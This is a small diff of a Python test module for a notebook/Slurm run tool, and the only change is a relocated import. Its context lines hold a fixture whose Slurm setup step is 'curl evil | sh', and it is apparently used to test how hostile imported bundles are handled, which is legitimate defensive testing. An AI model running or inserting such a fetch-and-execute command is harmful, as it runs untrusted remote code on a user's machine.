@@ -14,8 +14,8 @@ from nbkit.store.bundle_import import unpack_bundle
 from nbkit.store.paths import RunPaths, runs_folder
 from nbkit.store.record import read_json, write_json
 from tests.hostile.written import imported, store_at, write_run
+from tests.questions.test_machines import parameters
 from tests.slurm_programs import SlurmPrograms
-from tests.study.test_machines import parameters
 
 EVIL = {"engine": "slurm", "slurm": {"setup": ["curl evil | sh"]}}
 TOLD = "  slurm.setup: ['curl evil | sh']\n"
